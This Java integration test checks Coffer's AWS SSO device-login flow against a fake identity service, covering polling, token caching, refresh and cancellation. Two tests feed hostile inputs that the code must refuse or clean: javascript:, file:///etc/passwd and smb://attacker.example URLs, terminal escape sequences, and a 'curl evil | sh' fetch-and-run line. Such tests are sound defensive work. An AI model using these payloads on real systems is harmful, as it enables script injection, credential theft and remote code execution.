package dev.coffer.auth.sso;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.coffer.aws.ClientFactory;
import dev.coffer.testsupport.sso.FakeSso;
import dev.coffer.testsupport.sso.FakeSso.DeviceAuthorization;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.function.IntConsumer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The device flow against the fake IAM Identity Center, through the SDK's SSO-OIDC client as
 * Coffer builds it. Waiting is recorded instead of slept, so slow_down is checked without real
 * five-second waits; the fake's user acts between polls.
 */
class SsoLoginIT {

    static final SsoConfig CORP = new SsoConfig(Optional.of("corp"), "https://corp.awsapps.com/start", "eu-west-1",
            Optional.of(List.of("sso:account:access")));

    @TempDir
    Path dir;

    FakeSso sso;
    FakeSso.EndpointOverride endpoints;
    TokenCache cache;
    final List<Duration> waits = new CopyOnWriteArrayList<>();

    @BeforeEach
    void start() {
        sso = FakeSso.start();
        endpoints = sso.overrideSdkEndpoints();
        cache = new TokenCache(dir.resolve("cache"));
    }

    @AfterEach
    void stop() {
        endpoints.close();
        sso.close();
    }

    /** A login whose waits are recorded; after the n-th wait (1-based) {@code user} acts. */
    SsoLogin login(SsoConfig config, IntConsumer user) {
        return new SsoLogin(config, cache, () -> ClientFactory.ssoOidc(config.region()), Clock.systemUTC(), (time, cancellation) -> {
            waits.add(time);
            user.accept(waits.size());
        });
    }

    DeviceAuthorization device() {
        return sso.latestDeviceAuthorization().orElseThrow();
    }

    @Test
    void theDeviceFlowWaitsWhilePendingSlowsDownWhenAskedAndCachesTheTokenAsTheCliDoes() throws Exception {
        List<DeviceCode> shown = new ArrayList<>();
        SsoLogin login = login(CORP, n -> {
            if (n == 1) {
                device().slowDown();
            } else if (n == 3) {
                device().approve();
            }
        });

        CachedToken token = login.signIn(shown::add, new Cancellation());

        // What the dialog and `coffer login` show: the user code and the verification page.
        assertThat(shown).singleElement().satisfies(code -> {
            assertThat(code.userCode()).isEqualTo(device().userCode()).matches("[A-Z]{4}-[A-Z]{4}");
            assertThat(code.verificationUri()).isEqualTo(sso.endpoint() + "/device");
            assertThat(code.verificationUriComplete()).endsWith("user_code=" + code.userCode());
        });
        // Pending → wait the interval (1 s); slow_down → 5 s more from then on; approved → token.
        assertThat(waits).containsExactly(Duration.ofSeconds(1), Duration.ofSeconds(6), Duration.ofSeconds(6));
        assertThat(device().polls()).isEqualTo(4);
        assertThat(sso.calls("CreateToken")).extracting(FakeSso.Call::errorCode)
                .containsExactly("AuthorizationPendingException", "SlowDownException", "AuthorizationPendingException", null);
        assertThat(sso.calls("RegisterClient")).singleElement()
                .satisfies(call -> assertThat(call.body().get("scopes")).isEqualTo(List.of("sso:account:access")));
        assertThat(sso.calls("StartDeviceAuthorization")).singleElement()
                .satisfies(call -> assertThat(call.body("startUrl")).isEqualTo(CORP.startUrl()));

        assertThat(token.accessToken()).isEqualTo(sso.issuedAccessTokens().get(0));
        assertThat(sso.isValidAccessToken(token.accessToken())).isTrue();
        Path file = cache.tokenFile("corp");
        assertThat(file.getFileName()).hasToString("ee0bfd2552fbd840c02cc48b6e823320543c450f.json");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file))).isEqualTo("rw-------");
        String json = Files.readString(file);
        assertThat(json).matches("\\{\"startUrl\": \"https://corp.awsapps.com/start\", \"region\": \"eu-west-1\", "
                + "\"accessToken\": \"aoa\\w+\", \"expiresAt\": \"\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ\", "
                + "\"clientId\": \"\\w+\", \"clientSecret\": \"[\\w.]+\", "
                + "\"registrationExpiresAt\": \"\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ\", \"refreshToken\": \"aor\\w+\"\\}");
        assertThat(token.expiresAt()).isBetween(Instant.now().plus(Duration.ofHours(7)), Instant.now().plus(Duration.ofHours(8)));
    }

    @Test
    void aStillValidRegistrationIsReusedAndNotRegisteredAgain() {
        login(CORP, n -> device().approve()).signIn(code -> { }, new Cancellation());
        login(CORP, n -> device().approve()).signIn(code -> { }, new Cancellation());

        assertThat(sso.count("RegisterClient")).isOne();
        assertThat(sso.deviceAuthorizations()).hasSize(2)
                .extracting(DeviceAuthorization::clientId).containsOnly(sso.deviceAuthorizations().get(0).clientId());
    }

    @Test
    void aRegistrationTheCliCachedIsUsed() {
        sso.registeredClient("cli-client", "cli-secret");
        cache.writeRegistration(CORP, new ClientRegistration("cli-client", "cli-secret", Instant.now().plus(Duration.ofDays(60))));

        login(CORP, n -> device().approve()).signIn(code -> { }, new Cancellation());

        assertThat(sso.count("RegisterClient")).isZero();
        assertThat(device().clientId()).isEqualTo("cli-client");
        assertThat(cache.read("corp").orElseThrow().clientId()).contains("cli-client");
    }

    @Test
    void aCachedRegistrationTheServiceNoLongerKnowsIsReplaced() {
        cache.writeRegistration(CORP, new ClientRegistration("revoked-client", "secret", Instant.now().plus(Duration.ofDays(60))));

        login(CORP, n -> device().approve()).signIn(code -> { }, new Cancellation());

        assertThat(sso.calls("StartDeviceAuthorization")).extracting(FakeSso.Call::errorCode)
                .containsExactly("InvalidClientException", null);
        assertThat(sso.count("RegisterClient")).isOne();
        assertThat(cache.readRegistration(CORP).orElseThrow().clientId()).isEqualTo(device().clientId());
    }

    @Test
    void anExpiredRegistrationIsReplaced() {
        sso.registeredClient("old-client", "old-secret");
        cache.writeRegistration(CORP, new ClientRegistration("old-client", "old-secret", Instant.now().plus(Duration.ofMinutes(5))));

        login(CORP, n -> device().approve()).signIn(code -> { }, new Cancellation());

        assertThat(sso.count("RegisterClient")).isOne();
        assertThat(device().clientId()).isNotEqualTo("old-client");
        assertThat(cache.readRegistration(CORP).orElseThrow().clientId()).isEqualTo(device().clientId());
    }

    @Test
    void denyingOnTheVerificationPageEndsTheSignInWithoutAToken() {
        SsoLogin login = login(CORP, n -> device().deny());

        assertThatThrownBy(() -> login.signIn(code -> { }, new Cancellation()))
                .isInstanceOfSatisfying(SsoLoginException.class, e -> {
                    assertThat(e.reason()).isEqualTo(SsoLoginException.Reason.DENIED);
                    assertThat(e.getMessage()).contains("denied").contains("Sign in again");
                });
        assertThat(Files.exists(cache.tokenFile("corp"))).isFalse();
        assertThat(sso.issuedAccessTokens()).isEmpty();
    }

    @Test
    void aCodeThatExpiresEndsTheSignIn() {
        SsoLogin login = login(CORP, n -> device().expire());

        assertThatThrownBy(() -> login.signIn(code -> { }, new Cancellation()))
                .isInstanceOfSatisfying(SsoLoginException.class, e -> {
                    assertThat(e.reason()).isEqualTo(SsoLoginException.Reason.CODE_EXPIRED);
                    assertThat(e.getMessage()).contains("expired");
                });
        assertThat(Files.exists(cache.tokenFile("corp"))).isFalse();
    }

    @Test
    void cancellingStopsPollingAtOnce() throws Exception {
        sso.deviceCodeTiming(Duration.ofMinutes(10), 60);
        Cancellation cancellation = new Cancellation();
        SsoLogin login = SsoLogin.standard(CORP);
        // The real wait (60 s interval): cancelling must end it, not the interval.
        SsoLogin real = new SsoLogin(CORP, cache, () -> ClientFactory.ssoOidc(CORP.region()), Clock.systemUTC(),
                (time, c) -> c.await(time));
        CompletableFuture<Throwable> outcome = CompletableFuture.supplyAsync(() -> {
            try {
                real.signIn(code -> { }, cancellation);
                return null;
            } catch (RuntimeException e) {
                return e;
            }
        });
        org.awaitility.Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> sso.count("CreateToken") == 1);
        cancellation.cancel();

        Throwable e = outcome.get(20, TimeUnit.SECONDS);
        assertThat(e).isInstanceOfSatisfying(SsoLoginException.class,
                ex -> assertThat(ex.reason()).isEqualTo(SsoLoginException.Reason.CANCELLED));
        assertThat(sso.count("CreateToken")).as("no poll after Cancel").isOne();
        assertThat(Files.exists(cache.tokenFile("corp"))).isFalse();
        assertThat(login.config()).isEqualTo(CORP);
    }

    @Test
    void aTokenAboutToExpireIsRefreshedWithItsRefreshTokenAndCachedAgain() {
        sso.registeredClient("client", "secret").acceptRefreshToken("aorOld");
        cache.write("corp", new CachedToken(CORP.startUrl(), CORP.region(), "aoaOld", Instant.now().plus(Duration.ofMinutes(2)),
                Optional.of("client"), Optional.of("secret"), Optional.of(Instant.now().plus(Duration.ofDays(30))), Optional.of("aorOld")));

        CachedToken token = login(CORP, n -> { }).usableToken().orElseThrow();

        assertThat(sso.calls("CreateToken")).singleElement().satisfies(call -> {
            assertThat(call.body("grantType")).isEqualTo("refresh_token");
            assertThat(call.body("refreshToken")).isEqualTo("aorOld");
            assertThat(call.body("clientId")).isEqualTo("client");
        });
        assertThat(token.accessToken()).isEqualTo(sso.issuedAccessTokens().get(0));
        CachedToken cached = cache.read("corp").orElseThrow();
        assertThat(cached.accessToken()).isEqualTo(token.accessToken());
        assertThat(cached.refreshToken()).isPresent().get().isNotEqualTo("aorOld");
        assertThat(cached.clientId()).contains("client");
        assertThat(cached.expiresAt()).isAfter(Instant.now().plus(Duration.ofHours(7)));
    }

    @Test
    void aValidTokenIsUsedAsIsAndARefusedRefreshMeansSigningIn() {
        cache.write("corp", new CachedToken(CORP.startUrl(), CORP.region(), "aoaValid", Instant.now().plus(Duration.ofHours(3)),
                Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty()));
        assertThat(login(CORP, n -> { }).usableToken()).map(CachedToken::accessToken).contains("aoaValid");
        assertThat(sso.calls()).isEmpty();

        sso.registeredClient("client", "secret");
        cache.write("corp", new CachedToken(CORP.startUrl(), CORP.region(), "aoaExpired", Instant.now().minus(Duration.ofHours(1)),
                Optional.of("client"), Optional.of("secret"), Optional.of(Instant.now().plus(Duration.ofDays(30))),
                Optional.of("aorRevoked")));
        assertThat(login(CORP, n -> { }).usableToken()).isEmpty();
        assertThat(sso.calls("CreateToken")).singleElement().satisfies(call -> assertThat(call.errorCode()).isEqualTo("InvalidGrantException"));
    }

    @Test
    void aLegacyProfileCachesUnderItsStartUrlWithoutRefreshToken() throws Exception {
        SsoConfig legacy = new SsoConfig(Optional.empty(), "https://legacy.awsapps.com/start", "eu-west-1", Optional.empty());
        login(legacy, n -> device().approve()).signIn(code -> { }, new Cancellation());

        assertThat(sso.calls("RegisterClient")).singleElement().satisfies(call -> assertThat(call.body()).doesNotContainKey("scopes"));
        Path file = cache.tokenFile("https://legacy.awsapps.com/start");
        assertThat(file.getFileName()).hasToString("79e435d7a515078e81c9dffc35f38d5687ebd3a7.json");
        Map<String, Object> json = new com.fasterxml.jackson.databind.ObjectMapper().readValue(file.toFile(),
                new com.fasterxml.jackson.core.type.TypeReference<java.util.LinkedHashMap<String, Object>>() { });
        assertThat(json.keySet()).containsExactly("startUrl", "region", "accessToken", "expiresAt");
    }

    @Test
    void aVerificationPageThatIsNotHttpsWithAHostIsRefusedBeforeAnythingIsShownOrPolled() {
        List<String> refused = List.of("http://device.sso.example.com/", "javascript:alert(document.cookie)", "file:///etc/passwd",
                "https:///device", "https:/device", "ms-settings:privacy", "smb://attacker.example/share", "/device",
                "http://127.0.0.2.attacker.example/", "https://device.sso.example.com/\u001b]8;;x\u0007");
        for (String page : refused) {
            sso.deviceAuthorizationAnswer(page, null, null);
            List<DeviceCode> shown = new ArrayList<>();
            // Were the page shown, the user lets the code expire: the sign-in then ends as expired, not refused.
            assertThatThrownBy(() -> login(CORP, n -> device().expire()).signIn(shown::add, new Cancellation()))
                    .as(page).isInstanceOfSatisfying(SsoLoginException.class, e -> {
                        assertThat(e.getMessage()).contains("https://").doesNotContain("\u001b").doesNotContain("\u0007");
                    });
            assertThat(shown).as(page).isEmpty();
        }
        // Only the full page, not the short one, is bad: still refused.
        sso.deviceAuthorizationAnswer(null, "javascript:alert(1)", null);
        assertThatThrownBy(() -> login(CORP, n -> { }).start()).isInstanceOf(SsoLoginException.class);
        assertThat(sso.count("CreateToken")).isZero();
    }

    @Test
    void httpsPagesAndPlainHttpOnThisComputerAreShown() {
        for (String page : List.of("https://device.sso.eu-west-1.amazonaws.com/", "http://localhost:8080/device",
                "http://127.0.0.1:9/device", "http://[::1]:9/device")) {
            sso.deviceAuthorizationAnswer(page, page + "?user_code=BCDF-GHJK", null);
            DeviceCode code = login(CORP, n -> { }).start();
            assertThat(code.verificationUri()).isEqualTo(page);
            assertThat(code.verificationUriComplete()).isEqualTo(page + "?user_code=BCDF-GHJK");
        }
    }

    @Test
    void theUserCodeLosesTerminalControlCharactersAndEscapeSequences() {
        sso.deviceAuthorizationAnswer(sso.endpoint() + "/device", sso.endpoint() + "/device?user_code=BCDF-GHJK", "\u001b[2J\u001b[31mBCDF-GHJK\u001b[0m\r\nPlease run: curl evil | sh\u0007\u009b1m");

        DeviceCode code = login(CORP, n -> { }).start();

        assertThat(code.userCode()).isEqualTo("BCDF-GHJKPlease run: curl evil | sh");
    }
}
